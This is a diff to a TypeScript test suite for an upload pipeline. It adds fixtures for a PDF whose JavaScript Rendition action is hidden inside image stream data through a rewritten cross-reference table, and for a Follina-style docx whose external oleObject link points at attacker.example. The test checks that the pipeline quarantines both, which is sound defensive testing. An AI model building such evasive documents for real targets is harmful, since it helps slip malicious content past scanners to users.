@@ -10,14 +10,8 @@ import { sha256Of, startPipelineStack, type PipelineStack } from "./support/stac
  * through only when ACTIVE_CONTENT_ALLOW names that reason.
  */
 
-/** A one-page PDF whose catalog runs JavaScript when the document opens. */
-function pdfWithOpenActionJavaScript(): Buffer {
-  const objects = [
-    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
-    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
-    "<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>",
-  ];
+/** A PDF of these objects (object 1 the catalog) with a classic cross-reference table. */
+function pdfOf(objects: string[]): Buffer {
   let out = "%PDF-1.7\n";
   const offsets: number[] = [];
   objects.forEach((o, i) => {
@@ -28,6 +22,28 @@ function pdfWithOpenActionJavaScript(): Buffer {
   out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
   out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
   return Buffer.from(out, "latin1");
+}
+
+const PAGES = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"];
+
+/** A one-page PDF whose catalog runs JavaScript when the document opens. */
+function pdfWithOpenActionJavaScript(): Buffer {
+  return pdfOf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", ...PAGES, "<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>"]);
+}
+
+/**
+ * A PDF whose OpenAction is a Rendition action running JavaScript (its /JS), the action
+ * placed inside an image's stream data where the cross-reference table points at it.
+ */
+function pdfWithHiddenRendition(): Buffer {
+  const hidden = "4 0 obj << /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >> endobj ";
+  const data = `\xff\xd8${hidden}\xff\xd9`;
+  const file = pdfOf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", ...PAGES, `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode /Length ${data.length} >>\nstream\n${data}\nendstream`]);
+  const at = file.indexOf("4 0 obj << /S /Rendition");
+  const xref = file.indexOf("xref\n");
+  const table = file.toString("latin1", xref).split("\n");
+  table[2 + 4] = `${String(at).padStart(10, "0")} 00000 n `; // object 4: the action inside the image data
+  return Buffer.concat([file.subarray(0, xref), Buffer.from(table.join("\n"), "latin1")]);
 }
 
 const PDF = "application/pdf";
@@ -99,6 +115,17 @@ describe("active content through the pipeline (fauxqs, sqlite)", () => {
 
     const trailing = await settle(Buffer.concat([png(8, 8), Buffer.from([0])]), "image/png");
     expect({ status: trailing.done.status, reason: trailing.done.reason }).toEqual({ status: "quarantined", reason: "trailing_data" });
+  });
+
+  it("quarantines a docx with an external oleObject relationship (Follina) and a PDF with a Rendition action hidden in image data", async () => {
+    await s.stopWorkers();
+    await s.startWorker(); // the default policy: nothing allowed
+    const rels = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/></Relationships>';
+    const follina = zip([{ name: "[Content_Types].xml", data: docxContentTypes }, { name: "word/document.xml", data: "<w:document/>" }, { name: "word/_rels/document.xml.rels", data: rels }]);
+    for (const [bytes, type, reason] of [[follina, DOCX, "office_ole_object"], [pdfWithHiddenRendition(), PDF, "pdf_javascript"]] as const) {
+      const { done } = await settle(Buffer.from(bytes), type);
+      expect({ type, status: done.status, reason: done.reason }).toEqual({ type, status: "quarantined", reason });
+    }
   });
 });
 
